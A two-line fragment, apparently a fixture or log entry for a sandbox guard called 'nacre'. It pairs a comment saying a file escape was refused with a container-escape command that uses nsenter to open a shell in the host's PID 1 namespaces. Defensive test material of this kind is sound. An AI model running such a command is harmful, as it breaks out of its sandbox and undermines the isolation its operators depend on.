# nacre: refused file.escape
nsenter -t 1 -m -u -i -n sh
